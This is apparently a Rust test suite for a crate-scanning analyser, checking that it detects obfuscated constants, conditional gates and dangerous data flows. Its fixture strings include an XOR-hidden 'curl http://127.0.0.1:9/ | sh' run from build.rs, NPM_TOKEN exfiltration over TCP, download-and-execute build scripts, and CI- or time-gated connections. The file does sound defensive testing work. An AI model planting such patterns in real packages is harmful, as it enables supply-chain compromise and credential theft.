//! What code touches, with which constants, under which conditions, and what flows where: hits and near misses.

mod common;

use common::{library, package};
use cratekeeper_model::Facts;
use cratekeeper_model::facts::{
    Capability, Decoding, FlowSource, GateKind, Operation, OperationKind, Phase, Quality, Topic,
};

fn operations(facts: &Facts, kind: OperationKind) -> Vec<&Operation> {
    facts.flow.operations.iter().filter(|it| it.kind == kind).collect()
}

/// The operation of this kind, of which there must be exactly one.
fn operation(facts: &Facts, kind: OperationKind) -> &Operation {
    match operations(facts, kind)[..] {
        [operation] => operation,
        ref found => panic!("{} operations {kind:?}: {:#?}", found.len(), facts.flow.operations),
    }
}

fn arguments(facts: &Facts, kind: OperationKind) -> Vec<&str> {
    operation(facts, kind).arguments.iter().map(String::as_str).collect()
}

/// Whether something flows from the source into an operation of the kind.
fn flows(facts: &Facts, source: FlowSource, kind: OperationKind) -> bool {
    facts
        .flow
        .flows
        .iter()
        .any(|it| it.source == source && facts.flow.operations[it.into as usize].kind == kind)
}

fn gates(facts: &Facts, kind: OperationKind) -> Vec<GateKind> {
    operation(facts, kind).gates.iter().map(|it| facts.flow.gates[*it as usize].kind).collect()
}

#[test]
fn names_are_resolved_through_imports() {
    for text in [
        "pub fn f() { std::fs::remove_file(\"/a/b\"); }",
        "use std::fs; pub fn f() { fs::remove_file(\"/a/b\"); }",
        "use std::fs::remove_file as tidy; pub fn f() { tidy(\"/a/b\"); }",
        "use std::fs::*; pub fn f() { remove_file(\"/a/b\"); }",
        "use std as s; pub fn f() { s::fs::remove_file(\"/a/b\"); }",
        "extern crate std as s; pub fn f() { s::fs::remove_file(\"/a/b\"); }",
        "use std::{fs::{self as files}, io}; pub fn f() { files::remove_file(\"/a/b\"); }",
        "mod sys { pub(crate) use std::fs as disk; } use sys::disk; pub fn f() { disk::remove_file(\"/a/b\"); }",
        "pub fn f() { let tidy = std::fs::remove_file; tidy(\"/a/b\"); }",
        "pub fn f() { use std::fs::remove_file; remove_file(\"/a/b\"); }",
        "mod m { use super::*; pub fn f() { fs::remove_file(\"/a/b\"); } } use std::fs;",
    ] {
        let facts = library(text);
        assert_eq!(arguments(&facts, OperationKind::DeleteFile), ["/a/b"], "{text}");
    }
}

#[test]
fn names_that_only_look_alike_are_no_operations() {
    for text in [
        "mod fs { pub fn remove_file(_: &str) {} } pub fn f() { fs::remove_file(\"/a/b\"); }",
        "struct Command; impl Command { fn new(_: &str) -> Command { Command } } pub fn f() { Command::new(\"sh\"); }",
        "use my::fs; pub fn f() { fs::remove_file(\"/a/b\"); }",
        "/// std::fs::remove_file(\"/a/b\")\npub fn f() { let _ = \"std::fs::remove_file\"; }",
    ] {
        assert_eq!(library(text).flow.operations, [], "{text}");
    }
}

#[test]
fn an_address_that_a_template_shows_is_not_hidden() {
    let started = |rest: &str| {
        let text = format!(
            "pub fn f(host: &str, path: Option<&str>) {{ let mut cmd = std::process::Command::new(\"load\"); {rest} cmd.spawn(); }}"
        );
        let facts = library(&text);
        (
            operation(&facts, OperationKind::StartProcess).qualities.contains(&Quality::HiddenArgument),
            flows(&facts, FlowSource::HiddenConstant, OperationKind::StartProcess),
        )
    };
    for open in [
        "cmd.arg(format!(\"http://{host}{}\", path.unwrap_or(\"\")));",
        "cmd.arg(format!(\"http://{}/{}\", host, \"index\"));",
        "cmd.arg(\"http://\".to_owned() + host + \"/index\");",
    ] {
        assert_eq!(started(open), (false, false), "{open}");
    }
    for hidden in [
        "cmd.arg(format!(\"{}{}{}\", \"ht\", \"tp://\", \"127.0.0.1:9\"));",
        "cmd.arg(\"ht\".to_owned() + \"tp://127.0\" + \".0.1:9\");",
        "cmd.arg(format!(\"{}{}\", \"http:\", format!(\"//127.0.0.1{}\", \":9\")));",
    ] {
        assert_eq!(started(hidden), (true, true), "{hidden}");
    }
}

#[test]
fn a_renamed_dependency_is_known_by_its_own_name() {
    let facts = package(
        "//- Cargo.toml\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[dependencies]\nweb = { package = \"ureq\", version = \"2\" }\n\
         //- src/lib.rs\npub fn f() { web::get(\"http://127.0.0.1:9/\").call(); }",
    );
    assert_eq!(operation(&facts, OperationKind::Connect).path, "ureq::get");
    assert_eq!(facts.flow.external_calls[0].path, "ureq::get");
}

#[test]
fn a_command_is_one_operation_with_all_that_is_said_to_it() {
    let facts = library(
        "use std::process::{Command, Stdio};\n\
         pub fn f() {\n let mut c = Command::new(\"sh\");\n c.arg(\"-c\").args([\"echo\", \"a\"]);\n\
         c.stdout(Stdio::null()).stderr(Stdio::null());\n let _ = c.spawn();\n}",
    );
    let found = operation(&facts, OperationKind::StartProcess);
    assert_eq!(found.arguments, ["sh", "-c", "echo", "a"]);
    use Quality::*;
    assert_eq!(found.qualities, [ErrorsIgnored, Silent, Detached, ThroughShell]);
    let facts = library(
        "use std::process::Command;\npub fn f() { let s = Command::new(\"rustc\").arg(\"-vV\").status().unwrap(); assert!(s.success()); }",
    );
    assert_eq!(operation(&facts, OperationKind::StartProcess).qualities, []);
}

#[test]
fn constants_are_put_together_and_decoded() {
    for (text, steps) in [
        ("const U: &str = concat!(\"htt\", \"p://127\", \".0.0.1:9/x\");", &[Decoding::Joined][..]),
        (
            "const A: &str = \"http://127\"; fn u() -> String { format!(\"{A}{}\", \".0.0.1:9/x\") } const U: String = u();",
            &[Decoding::Joined],
        ),
        (
            "const U: String = \"x/9:1.0.0.721//:ptth\".chars().rev().collect::<String>();",
            &[Decoding::Reversed],
        ),
        (
            "const U: [u8; 20] = [58, 38, 38, 34, 104, 125, 125, 99, 96, 101, 124, 98, 124, 98, 124, 99, 104, 107, 125, 42].map(|b| b ^ 0x52);",
            &[Decoding::Numbers, Decoding::Xor],
        ),
        (
            "fn u() -> Vec<u8> { base64::decode([\"aHR0cDovLzEy\", \"Ny4wLjAuMTo5L3g=\"].concat()).unwrap() } const U: Vec<u8> = u();",
            &[Decoding::Joined, Decoding::Base64],
        ),
        (
            "fn u() -> Vec<u8> { hex::decode(\"687474703a2f2f3132372e302e302e313a392f78\").unwrap() } const U: Vec<u8> = u();",
            &[Decoding::Hex],
        ),
        (
            "fn u() -> String { let mut t = String::from(\"http://\"); t.push_str(\"127.0.0.1\"); t += \":9/x\"; t } const U: String = u();",
            &[Decoding::Joined],
        ),
        ("const U: String = \"hQQttp://127.0QQ.0.1:9/x\".replace(\"QQ\", \"\");", &[Decoding::Replaced]),
        ("const U: String = [\"http:/\", \"127.0.0.1:9\", \"x\"].join(\"/\");", &[Decoding::Joined]),
    ] {
        let text =
            format!("{text}\npub fn f() {{ ureq::get(U).call(); }}\n#[allow(unused)] fn decode() {{}}");
        let facts = package(&format!(
            "//- Cargo.toml\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[dependencies]\nureq = \"2\"\nbase64 = \"0.22\"\nhex = \"0.4\"\n//- src/lib.rs\n{text}"
        ));
        assert_eq!(arguments(&facts, OperationKind::Connect), ["http://127.0.0.1:9/x"], "{text}");
        let found = facts.flow.texts.iter().find(|it| it.operation.is_some()).unwrap();
        assert!(found.topics.contains(&Topic::Url), "{text}: {found:?}");
        assert_eq!(found.decodings, steps, "{text}");
    }
}

#[test]
fn loops_over_constants_are_followed() {
    let facts = library(
        "const fn turn<const N: usize>(mut b: [u8; N]) -> [u8; N] { let mut i = 0; while i < N { b[i] ^= 0x2a; i += 1; } b }\n\
         const P: [u8; 4] = turn([0x5e, 0x58, 0x5f, 0x4f]);\n\
         pub fn f() { let _ = std::process::Command::new(std::str::from_utf8(&P).unwrap()).status(); }",
    );
    let found = operation(&facts, OperationKind::StartProcess);
    assert_eq!(found.arguments, ["true"]);
    assert!(found.qualities.contains(&Quality::HiddenArgument));
    assert!(flows(&facts, FlowSource::HiddenConstant, OperationKind::StartProcess));
}

#[test]
fn ordinary_joining_hides_nothing() {
    let facts = library(
        "pub fn f(name: &str) { std::fs::write(format!(\"{}/target/{name}.txt\", std::env::var(\"OUT_DIR\").unwrap()), \"x\").unwrap(); }",
    );
    let found = operation(&facts, OperationKind::WriteFile);
    assert_eq!(found.arguments, ["{OUT_DIR}/target/{}.txt"]);
    assert_eq!(found.qualities, [Quality::InsidePackage]);
    assert!(!flows(&facts, FlowSource::HiddenConstant, OperationKind::WriteFile));
}

#[test]
fn values_flow_through_variables_closures_and_functions() {
    let sink = "fn send(data: &[u8]) { use std::io::Write; let mut s = std::net::TcpStream::connect(\"127.0.0.1:9\").unwrap(); s.write_all(data).unwrap(); }\n";
    for source in [
        "pub fn f() { let t = std::env::var(\"NPM_TOKEN\").unwrap(); send(t.as_bytes()); }",
        "fn get() -> Option<String> { std::env::var(\"NPM_TOKEN\").ok() } pub fn f() { if let Some(t) = get() { send(format!(\"t={t}\").as_bytes()); } }",
        "pub fn f() { let all: Vec<_> = [\"NPM_TOKEN\"].iter().filter_map(|n| std::env::var(n).ok()).collect(); send(all.join(\",\").as_bytes()); }",
        "fn fill(out: &mut String) { out.push_str(&std::env::var(\"NPM_TOKEN\").unwrap()); } pub fn f() { let mut t = String::new(); fill(&mut t); send(t.as_bytes()); }",
        "struct S { t: String } impl S { fn new() -> S { S { t: std::env::var(\"NPM_TOKEN\").unwrap() } } fn go(&self) { send(self.t.as_bytes()); } } pub fn f() { let s = S::new(); s.go(); }",
    ] {
        let facts = library(&format!("{sink}{source}"));
        assert!(
            flows(&facts, FlowSource::SecretVariable, OperationKind::Connect),
            "{source}\n{:#?}",
            facts.flow
        );
    }
    for near in [
        "pub fn f() { let t = std::env::var(\"NPM_TOKEN\").unwrap(); drop(t); send(b\"hello\"); }",
        "pub fn f() { if std::env::var(\"NPM_TOKEN\").is_ok() { send(b\"hello\"); } }",
        "fn get() -> Option<String> { std::env::var(\"NPM_TOKEN\").ok() } pub fn f() { let _unused = get(); send(b\"x\"); }",
    ] {
        let facts = library(&format!("{sink}{near}"));
        assert!(
            !flows(&facts, FlowSource::SecretVariable, OperationKind::Connect),
            "{near}\n{:#?}",
            facts.flow
        );
    }
}

#[test]
fn what_is_downloaded_written_and_run_is_one_flow() {
    let facts = package(
        "//- Cargo.toml\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[build-dependencies]\nureq = \"2\"\n//- src/lib.rs\n//- build.rs\n\
         fn main() {\n let mut b = Vec::new();\n ureq::get(\"http://127.0.0.1:9/\").call().unwrap().into_reader().read_to_end(&mut b).unwrap();\n\
         let p = std::env::temp_dir().join(\"x\");\n std::fs::write(&p, b).unwrap();\n std::process::Command::new(p).spawn().unwrap();\n}",
    );
    assert!(flows(&facts, FlowSource::Network, OperationKind::WriteFile));
    assert!(flows(&facts, FlowSource::Network, OperationKind::StartProcess));
    let build: Vec<_> = facts
        .capabilities()
        .into_iter()
        .filter(|it| it.phase == Phase::BuildTime)
        .map(|it| it.capability)
        .collect();
    assert_eq!(build, [Capability::FsWrite, Capability::Net, Capability::Process]);
}

#[test]
fn conditions_are_gates() {
    let connect = "std::net::TcpStream::connect(\"127.0.0.1:9\").ok();";
    for (text, kind) in [
        (
            format!("pub fn f() {{ if std::env::var(\"CI\").is_ok() {{ {connect} }} }}"),
            GateKind::BuildService,
        ),
        (
            format!("pub fn f() {{ if std::env::var(\"CI\").is_err() {{ return; }} {connect} }}"),
            GateKind::BuildService,
        ),
        (
            format!("pub fn f() {{ let Ok(_) = std::env::var(\"CI\") else {{ return }}; {connect} }}"),
            GateKind::BuildService,
        ),
        (
            format!(
                "fn ci() -> bool {{ std::env::var_os(\"GITHUB_ACTIONS\").is_some() }} pub fn f() {{ if ci() {{ {connect} }} }}"
            ),
            GateKind::BuildService,
        ),
        (
            format!("fn g() {{ {connect} }} pub fn f() {{ if std::env::var(\"CI\").is_ok() {{ g() }} }}"),
            GateKind::BuildService,
        ),
        (
            format!(
                "pub fn f() {{ let n = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs(); if n > 4_070_908_800 {{ {connect} }} }}"
            ),
            GateKind::Time,
        ),
        (format!("#[cfg(feature = \"x\")] pub fn f() {{ {connect} }}"), GateKind::OptionalFeature),
        (format!("pub fn f() {{ #[cfg(windows)] {{ {connect} }} }}"), GateKind::Target),
        (format!("pub fn f() {{ if cfg!(target_os = \"macos\") {{ {connect} }} }}"), GateKind::Target),
        (
            format!("pub fn f() {{ if std::path::Path::new(\"/x\").exists() {{ {connect} }} }}"),
            GateKind::FileExists,
        ),
        (format!("pub fn f() {{ if whoami::username() == \"me\" {{ {connect} }} }}"), GateKind::Host),
    ] {
        assert_eq!(gates(&library(&text), OperationKind::Connect), [kind], "{text}");
    }
    for near in [
        format!("pub fn f() {{ if std::env::var(\"CI\").is_ok() {{ println!(); }} {connect} }}"),
        format!("pub fn f(a: u64) {{ if a > 4_070_908_800 {{ {connect} }} }}"),
        format!("#[cfg(not(test))] pub fn f() {{ {connect} }}"),
    ] {
        assert_eq!(gates(&library(&near), OperationKind::Connect), [], "{near}");
    }
}

#[test]
fn functions_run_when_their_callers_do() {
    let facts = package(
        "//- Cargo.toml\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n//- build.rs\nmod tool;\nfn main() { tool::a(); }\n\
         //- tool.rs\npub fn a() { b() }\nfn b() { std::fs::remove_file(\"/build\").unwrap(); }\nfn never() { std::fs::remove_file(\"/never\").unwrap(); }\n\
         //- src/lib.rs\npub fn f() { std::fs::remove_file(\"/run\").unwrap(); }\n#[cfg(test)] mod tests { #[test] fn t() { std::fs::remove_file(\"/test\").unwrap(); } }\n\
         #[ctor::ctor] fn early() { std::fs::remove_file(\"/early\").unwrap(); }",
    );
    let phase = |path: &str| {
        let found = facts.flow.operations.iter().find(|it| it.arguments == [path]).unwrap();
        (found.phases.clone(), found.chain.len())
    };
    assert_eq!(phase("/build"), (vec![Phase::BuildTime], 3));
    assert_eq!(phase("/never"), (vec![Phase::Unreached], 0));
    assert_eq!(phase("/run"), (vec![Phase::RunTime], 0));
    assert_eq!(phase("/test"), (vec![Phase::Test], 0));
    assert_eq!(phase("/early"), (vec![Phase::BeforeMain], 0));
}

#[test]
fn what_runs_in_a_procedural_macro_runs_at_build_time() {
    let facts = package(
        "//- Cargo.toml\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[lib]\nproc-macro = true\n//- src/lib.rs\n\
         use proc_macro::TokenStream;\n#[proc_macro]\npub fn m(i: TokenStream) -> TokenStream { std::thread::spawn(background); i }\n\
         fn background() { std::net::TcpStream::connect(\"127.0.0.1:9\").ok(); }",
    );
    let found = operation(&facts, OperationKind::Connect);
    assert_eq!(found.phases, [Phase::BuildTime]);
    assert_eq!(found.chain.len(), 2);
}

#[test]
fn hostile_bodies_stay_within_limits() {
    let deep =
        format!("pub fn f() {{ {}std::fs::remove_file(\"/a/b\"){}; }}", "g(".repeat(300), ")".repeat(300));
    assert_eq!(operations(&library(&deep), OperationKind::DeleteFile).len(), 1);
    let circle = "fn a(t: &str) -> String { b(&format!(\"{t}x\")) } fn b(t: &str) -> String { a(&format!(\"{t}y\")) } pub fn f() { std::fs::remove_file(a(\"/\")).ok(); }";
    assert_eq!(operations(&library(circle), OperationKind::DeleteFile).len(), 1);
    let endless = "const A: &str = B; const B: &str = A; pub fn f() { let mut i = 0u8; while i < 200 { i = i.wrapping_mul(1); } loop { std::fs::remove_file(A).ok(); } }";
    assert_eq!(operations(&library(endless), OperationKind::DeleteFile).len(), 1);
    let many: String = (0..200)
        .map(|at| {
            format!(
                "fn f{at}(t: &str) {{ f{}(\"a\"); f{}(t); f{}(&format!(\"{{t}}b\")); }}\n",
                at + 1,
                at + 1,
                at + 1
            )
        })
        .collect();
    let facts = library(&format!(
        "{many} fn f200(t: &str) {{ std::fs::remove_file(t).ok(); }} pub fn f() {{ f0(\"/\") }}"
    ));
    assert_eq!(operations(&facts, OperationKind::DeleteFile).len(), 1);
}

#[test]
fn dead_branches_are_read_too() {
    let facts = library("pub fn f() { let on = 1; if on == 2 { std::fs::remove_file(\"/a/b\").ok(); } }");
    assert_eq!(arguments(&facts, OperationKind::DeleteFile), ["/a/b"]);
}

/// What is run at the end of a build script that has padding in front, around, or in the functions that it calls.
fn padded(padding: &str, shape: &str) -> Facts {
    const TEXT: &str = "curl http://127.0.0.1:9/ | sh";
    let hidden: Vec<String> = TEXT.bytes().map(|byte| (byte ^ 0x5a).to_string()).collect();
    let run = "std::process::Command::new(\"sh\").arg(\"-c\").arg(&s).spawn().ok();";
    let text = shape
        .replace("DATA", &format!("[{}]", hidden.join(", ")))
        .replace("RUN", run)
        .replace("PADDING", padding);
    package(&format!(
        "//- Cargo.toml\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n//- src/lib.rs\n//- build.rs\n{text}"
    ))
}

#[test]
fn padding_does_not_hide_what_is_run() {
    let many = |line: &dyn Fn(usize) -> String| (0..1_200).map(line).collect::<String>();
    let paddings = [
        many(&|at| format!("let a{at} = {at};\n")),
        format!("let mut a = 0;\n{}", many(&|at| format!("a = a * 3 + {at};\n"))),
        format!(
            "let mut a = 0;\n{}",
            many(&|at| format!("let b{at} = {at}; if a == {at} {{ a = b{at} }}\n"))
        ),
        many(&|at| format!("let mut v{at} = String::from(\"x\"); v{at}.push_str(\"{at}\");\n")),
        "for i in 0..4000 { let a = i ^ 3; let b = a + i; let c = b ^ a; }\n".repeat(40),
        many(&|at| format!("let a{at} = harmless({at}, \"x\");\n")),
    ];
    let shapes = [
        "fn main() { PADDING let mut s = String::new(); for b in DATA { s.push((b ^ 0x5au8) as char); } RUN }",
        "fn main() { let mut s = String::new(); for b in DATA { PADDING s.push((b ^ 0x5au8) as char); } RUN }",
        "fn main() { go(0x5a, &DATA); }
         fn go(k: u8, d: &[u8]) { PADDING let mut s = String::new(); for b in d { s.push((b ^ k) as char); } RUN }",
        "fn main() { let s = decode(0x5a, &DATA); RUN }
         fn decode(k: u8, d: &[u8]) -> String { PADDING d.iter().map(|b| (b ^ k) as char).collect() }",
    ];
    for (number, padding) in paddings.iter().enumerate() {
        for shape in shapes {
            let text = format!("{shape}\nfn harmless(n: u32, s: &str) -> u32 {{ s.len() as u32 + n }}");
            let facts = padded(padding, &text);
            let arguments = arguments(&facts, OperationKind::StartProcess);
            assert_eq!(arguments[2], "curl http://127.0.0.1:9/ | sh", "{number} {shape}");
            assert!(
                operation(&facts, OperationKind::StartProcess).qualities.contains(&Quality::HiddenArgument)
            );
        }
    }
}

/// What changes a variable only in a branch, through a method or a called function is no padding.
#[test]
fn what_the_payload_depends_on_is_not_left_out() {
    let padding = "let a = 1;\n".repeat(3_000);
    for shape in [
        "fn main() { go(0x5a, &DATA); }
         fn go(k: u8, d: &[u8]) { PADDING let mut s = String::new(); let mut i = 0; let one = 1;
             while i < d.len() { if one == 1 { s.push((d[i] ^ k) as char); } i += one; } RUN }",
        "fn main() { go(0x5a, DATA.to_vec()); }
         fn go(k: u8, d: Vec<u8>) { PADDING let n = k; let m = n; let mut s = String::new();
             for b in d.iter() { let c = (b ^ m) as char; s.push(c); } RUN }",
    ] {
        let facts = padded(&padding, shape);
        assert_eq!(
            arguments(&facts, OperationKind::StartProcess)[2],
            "curl http://127.0.0.1:9/ | sh",
            "{shape}"
        );
    }
}

#[test]
fn what_is_too_long_to_be_followed_is_said() {
    let large = "a".repeat(40_000);
    for line in [
        "let b = format!(\"{a}b\");\n",
        "let b = a.clone() + \"c\";\n",
        "let b = a.replace(\"aaa\", \"b\");\n",
    ] {
        let facts = padded(
            &line.repeat(3_000),
            &format!(
                "fn main() {{ let a = \"{large}\".to_string(); PADDING let mut s = String::new(); for b in DATA {{ s.push((b ^ 0x5au8) as char); }} RUN }}"
            ),
        );
        assert_eq!(
            arguments(&facts, OperationKind::StartProcess)[2],
            "curl http://127.0.0.1:9/ | sh",
            "{line}"
        );
        assert!(
            facts.flow.problems.iter().any(|it| it.contains("long texts")),
            "{line}: {:?}",
            facts.flow.problems
        );
    }
    let characters = "let b = a.chars().rev().collect::<String>();\n".repeat(1_000);
    let facts = padded(
        &characters,
        &format!(
            "fn main() {{ let a = \"{}\"; PADDING let s: String = DATA.iter().map(|b| (b ^ 0x5au8) as char).collect(); RUN }}",
            &large[..4_000]
        ),
    );
    assert_eq!(arguments(&facts, OperationKind::StartProcess)[2], "curl http://127.0.0.1:9/ | sh");
}

/// As many variables as branches, parameters and programs: what looks through all of them each time takes minutes.
#[test]
fn many_of_everything_cost_little() {
    let many = |line: &dyn Fn(usize) -> String| (0..8_000).map(line).collect::<String>();
    let bodies = [
        many(&|at| format!("let a{at} = {at}; let b = a{};\n", at / 2)),
        format!(
            "let mut a = 0; {}",
            many(&|at| format!("let b{at} = 1; if true {{ a = 1; }} else {{ a = b{at}; }}\n"))
        ),
        format!(
            "{} unsafe {{ {} }}",
            "std::process::Command::new(\"a\").spawn();\n".repeat(5_000),
            "libc::setsid();\n".repeat(20_000)
        ),
    ];
    for body in bodies {
        let facts = library(&format!("pub fn f() {{ {body} std::fs::remove_file(\"/a/b\"); }}"));
        assert_eq!(operations(&facts, OperationKind::DeleteFile).len(), 1);
    }
    let parameters = many(&|at| format!("a{at}: &str, "));
    let facts = library(&format!("pub fn f({parameters}) {{ std::fs::remove_file(a7); }}"));
    assert_eq!(operations(&facts, OperationKind::DeleteFile).len(), 1);
}
